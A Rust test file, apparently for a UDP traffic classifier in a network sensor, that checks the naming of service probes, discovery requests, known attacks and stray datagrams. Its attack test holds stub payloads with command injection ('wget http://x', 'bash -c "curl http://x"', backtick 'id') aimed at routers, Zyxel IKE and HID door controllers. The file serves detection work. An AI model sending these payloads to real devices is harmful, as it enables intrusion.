//! Requests, attacks and strays over UDP.

use super::*;

#[test]
fn requests_are_named() {
    let rpc = |program: u32| {
        let mut bytes = vec![1, 2, 3, 4, 0, 0, 0, 0, 0, 0, 0, 2];
        bytes.extend(program.to_be_bytes());
        long(&bytes, 40)
    };
    let snmp_3 = b"\x30\x3a\x02\x01\x03\x30\x0f\x02\x02\x4a\x69\x02\x03\x00\xff\xe3\x04\x01\x04\x02\x01\x03\
        \x04\x10\x30\x0e\x04\x00\x02\x01\x00\x02\x01\x00\x04\x00\x04\x00\x04\x00\x30\x12\x04\x00\x04\x00\xa0\x0c\
        \x02\x02\x37\xf0\x02\x01\x00\x02\x01\x00\x30\x00";
    let snmp_get = b"\x30\x26\x02\x01\x00\x04\x06public\xa0\x19\x02\x04\x13\x37\x00\x01\x02\x01\x00\x02\x01\x00\
        \x30\x0b\x30\x09\x06\x05\x2b\x06\x01\x02\x01\x05\x00";
    let version_bind = b"\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03";
    let mut ike = vec![7; 8];
    ike.extend([0, 0, 0, 0, 0, 0, 0, 0, 1, 0x10, 2]);
    check(
        vec![
            to(
                123,
                &long(&[0x16, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0], 12),
                "ntp-control",
            ),
            to(161, snmp_get, "snmp-get"),
            to(161, snmp_3, "snmp-v3"),
            to(3478, &long(&[0, 1, 0, 0], 20), "stun-classic"),
            to(5093, &[0x7a, 0, 0, 0, 0, 0], "sentinel-license"),
            to(
                4433,
                b"\x16\xfe\xff\0\0\0\0\0\0\0\0\0\x36\x01\0\0\x2a",
                "dtls-client-hello",
            ),
            to(10074, b"call.startblast 2000 3", "tp240-driver"),
            to(2967, version_bind, "dns-query-other-port"),
            to(7, b"\r\n\r\n", "echo"),
            to(11, b"\r\n", "users"),
            to(
                37810,
                b"\x20\0\0\0DHIP\0\0\0\0\0\0\0\0\x49\0\0\0\0\0\0\0\x49\0\0\0\0\0\0\0{ \"method\" : \"DHDiscover.search\"",
                "dhdiscover",
            ),
            to(10001, &[1, 0, 0, 0], "ubiquiti-discovery"),
            to(10001, &[2, 8, 0, 0], "ubiquiti-discovery"),
            to(177, b"\0\x01\0\x02\0\x01\0", "xdmcp-query"),
            to(
                427,
                b"\x02\x01\0\x006 \0\0\0\0\0\x01\0\x02en\0\0\0\x15service:service-agent\0\x07default\0\0\0\0",
                "service-location",
            ),
            to(523, b"DB2GETADDR\0SQL09010\0", "db2-discovery"),
            to(33848, b"\n", "jenkins-discovery"),
            to(
                1604,
                &long(&[0x1e, 0, 1, 0x30, 2, 0xfd, 0xa8, 0xe3], 30),
                "citrix-browser",
            ),
            to(
                2638,
                b"\x1b\0\0\x3d\0\0\0\0\x12CONNECTIONLESS_TDS\0\0\0\x01",
                "sybase-discovery",
            ),
            to(5678, &[0; 4], "mikrotik-discovery"),
            to(4070, b"discover;013;", "hid-discovery"),
            to(
                41794,
                &long(b"\x14\0\0\0\x01\x04\0\x03\0\0host", 266),
                "crestron-discovery",
            ),
            to(
                37020,
                b"<?xml version=\"1.0\"?><Probe><Uuid>1</Uuid><Types>inquiry</Types></Probe>",
                "hikvision-discovery",
            ),
            to(26000, b"\x80\0\0\x0c\x02QUAKE\0\x03", "quake1-query"),
            to(7777, b"SAMP\xc6\x33\x64\x07\x61\x1ei", "samp-query"),
            to(7777, b"SAMP\xc6\x33\x64\x07\x61\x1ep1234", "samp-query"),
            to(
                19132,
                &long(b"\x01\0\0\0\0\0\0\0\x01\0\xff\xff\0\xfe\xfe\xfe\xfe", 33),
                "raknet-ping",
            ),
            to(25565, b"\xfe\xfd\x09\x01\x02\x03\x04", "gamespy-query"),
            to(7778, b"\\status\\", "gamespy-text-query"),
            to(44818, &long(&[0x63, 0, 0, 0], 24), "ethernet-ip"),
            to(
                20000,
                b"\x05\x64\x05\xc9\0\0\0\0\x36\x4c",
                "dnp3-request",
            ),
            to(
                9600,
                b"\x80\0\x02\0\0\0\0\x63\0\xef\x05\x01\0",
                "fins-request",
            ),
            to(5094, b"\x01\0\0\0\0\x02\0\x0d\x01\0\0\x4e\x20", "hart-ip"),
            to(4800, &[1, 0, 0, 8, 0, 0, 0, 0], "moxa-nport"),
            to(34964, &long(&[4, 0, 0x20, 0, 0x10], 100), "profinet-rpc"),
            to(
                623,
                b"\x06\0\xff\x07\0\0\0\0\0\0\0\0\0\x09\x20\x18\xc8\x81\0\x38\x8e\x04\xb5",
                "rmcp-ping",
            ),
            to(
                623,
                b"\x06\0\xff\x06\0\0\x11\xbe\x80\x40\0\0",
                "rmcp-ping",
            ),
            to(2123, &long(&[0x32, 16, 0, 12], 20), "gtp-request"),
            to(2123, &long(&[0x48, 32, 0, 16], 20), "gtp-request"),
            to(5632, b"NQ", "pcanywhere"),
            to(
                135,
                &long(b"\x05\0\x0b\x03\x10\0\0\0\x48\0\0\0\x01", 72),
                "dcerpc-bind",
            ),
            to(
                31337,
                b"\xce\x63\xd1\xd2\x16\xe7\x13\xcf\x38\xa5\xa5\x86",
                "back-orifice",
            ),
            to(5353, b"\0\0\x10\0\0\0\0\0\0\0\0\0", "dns-status"),
            to(123, &long(&[0xd9, 0, 0x0a, 0xfa], 48), "ntp-client"),
            to(4500, &long(&ike, 28), "ike-init"),
            to(17185, &rpc(0x5555_5555), "vxworks-debug"),
            to(2049, &rpc(100_003), "rpc-call"),
            to(
                3478,
                &long(&[0, 3, 0, 8, 0x21, 0x12, 0xa4, 0x42], 28),
                "turn-allocate",
            ),
            to(
                7001,
                b"\0\0\x03\xe7\0\0\0\0\0\0\0\x65\0\0\0\0\0\0\0\0\x0d\x05\0\0\0\0\0\0\0\0\0\0",
                "afs-version",
            ),
            to(9999, b"\xd0\xf2\x81\xf8\x8b\xff\x9a\xf7", "kasa-request"),
            to(
                33434,
                b"@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_",
                "traceroute",
            ),
            to(51820, &long(&[1, 0, 0, 0], 148), "wireguard-initiation"),
        ],
        udp,
    );
}

#[test]
fn attacks_are_named() {
    let mut ike = vec![7; 8];
    ike.extend([0; 8]);
    ike.extend(b"\x29\x20\x22\x08\0\0\0\0\0\0\x01\0\";bash -c \"curl http://x\";echo -n \"");
    check(
        vec![
            to(1434, &[&[4][..], &[1; 375]].concat(), "sql-slammer"),
            (
                4000,
                21,
                b"\x05\0....insert witty message here....".to_vec(),
                "witty",
            ),
            to(
                53413,
                b"AA\0\0AAAA cd /tmp; wget http://x\0",
                "netis-backdoor",
            ),
            to(
                9999,
                &long(&[0x0c, 0x15, 0x33, 0], 512),
                "asus-infosvr-command",
            ),
            to(500, &ike, "zyxel-ike-command"),
            to(
                631,
                b"0 3 http://203.0.113.9:12345/printers/x",
                "cups-browsed-printer",
            ),
            to(
                4070,
                b"command_blink_on;044;000000000000;1`id`;",
                "hid-door-command",
            ),
        ],
        udp,
    );
}

#[test]
fn strays_are_named() {
    check(
        vec![
            to(67, &long(&[1, 1, 6, 0], 300), "dhcp"),
            to(138, &long(&[0x11, 2, 0, 1], 82), "netbios-datagram"),
            to(
                162,
                b"\x30\x1b\x02\x01\x01\x04\x06public\xa7\x0e\x02\x01\x01\x02\x01\0\x02\x01\0\x30\x03\x30\x01\x06",
                "snmp-trap",
            ),
            to(514, b"<34>Oct 11 22:14:15 host su: failed", "syslog"),
            to(2055, &long(&[0, 9, 0, 1], 40), "flow-export"),
            to(6343, &long(&[0, 0, 0, 5, 0, 0, 0, 1], 80), "sflow"),
            to(17500, b"{\"host_int\": 1}", "dropbox-lan-sync"),
            to(
                1900,
                b"NOTIFY * HTTP/1.1\r\nNTS: ssdp:alive\r\n\r\n",
                "ssdp-notify",
            ),
            to(
                6881,
                b"d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe",
                "bittorrent-dht",
            ),
            to(
                6969,
                b"\0\0\x04\x17\x27\x10\x19\x80\0\0\0\0\x01\x02\x03\x04",
                "bittorrent-tracker",
            ),
            to(
                49152,
                b"\xff\xf0\x97\x0d\x2e\x60\xd1\x6f\0\0\x04\0\0\x55\xab\xec\x32\0\0\0\0\0\x32\x04\x0a\0\xc8\x75",
                "azureus-dht",
            ),
            to(
                6771,
                b"BT-SEARCH * HTTP/1.1\r\nPort: 6881\r\n",
                "bittorrent-local",
            ),
            to(6346, b"GND\x01\x02\x03\x04\x01", "gnutella"),
            to(
                27036,
                b"\xff\xff\xff\xff\x21\x4c\x5f\xa0\x08\0\0\0",
                "steam-streaming",
            ),
            to(
                9,
                &[&[0xff; 6][..], &[2; 96]].concat(),
                "wake-on-lan",
            ),
            to(7, &[&[0xff; 6][..], &[2; 96]].concat(), "wake-on-lan"),
            to(4341, &long(&[0xc0, 0, 0, 1, 0, 0, 0, 1, 0x45], 60), "lisp"),
            to(4342, &long(&[0x10, 0, 0, 1], 52), "lisp"),
            to(1985, &long(&[0, 0, 16, 3, 10, 120, 1], 20), "hsrp"),
            to(
                3784,
                &long(&[0x20, 0x48, 3, 24, 0, 0, 0, 1], 24),
                "bfd-control",
            ),
            to(
                646,
                &long(&[0, 1, 0, 0x1e, 192, 0, 2, 1], 34),
                "ldp-hello",
            ),
            to(6696, b"\x2a\x02\0\x08\x04\x06\0\0\0\x01\x01\x90", "babel"),
            to(
                4500,
                &long(&[0xc1, 0x5a, 0x11, 0x70, 0, 0, 0, 1], 124),
                "esp-in-udp",
            ),
            to(4500, &[0xff], "nat-keepalive"),
            to(
                137,
                &long(
                    b"\x80\x2c\x29\x10\0\x01\0\0\0\0\0\x01 EJFDEBFEEBFACACACACACACACACACAAA\0\0\x20\0\x01",
                    68,
                ),
                "netbios-registration",
            ),
            to(
                631,
                b"6d 3 ipp://192.0.2.8:631/printers/lp \"room 1\" \"lp\"",
                "cups-browse",
            ),
        ],
        udp,
    );
}

#[test]
fn what_lacks_one_mark_is_not_named() {
    for (port, bytes) in [
        // A length that is not the datagram's own.
        (2123, long(&[0x32, 16, 0, 13], 20)),
        (5094, b"\x01\0\0\0\0\x02\0\x0e\x01\0\0\x4e\x20".to_vec()),
        (3784, long(&[0x20, 0x48, 3, 25, 0, 0, 0, 1], 24)),
        (646, long(&[0, 1, 0, 0x1f, 192, 0, 2, 1], 34)),
        // An outstation's frame, a response of FINS.
        (20000, b"\x05\x64\x05\x49\0\0\0\0\x36\x4c".to_vec()),
        (9600, b"\xc0\0\x02\0\0\0\0\x63\0\xef\x05\x01\0".to_vec()),
        // A DNS query that ends within its question, or with something behind it.
        (
            2967,
            b"\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0".to_vec(),
        ),
        (
            2967,
            b"\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03!".to_vec(),
        ),
        // A request for the time, which says 1 where DNS counts questions.
        (5353, long(b"\xe3\0\x04\xfa\0\x01\0\0\0\x01", 48)),
        // High sequence numbers are those of any datagram.
        (4500, long(&[0xc1, 0x5a, 0x11, 0x70, 9, 0, 0, 1], 124)),
    ] {
        let found = udp(&Payload::new(&bytes, 40_001, port)).map(|row| row.name);
        assert_eq!(found, None, "to {port}: {bytes:02x?}");
    }
}
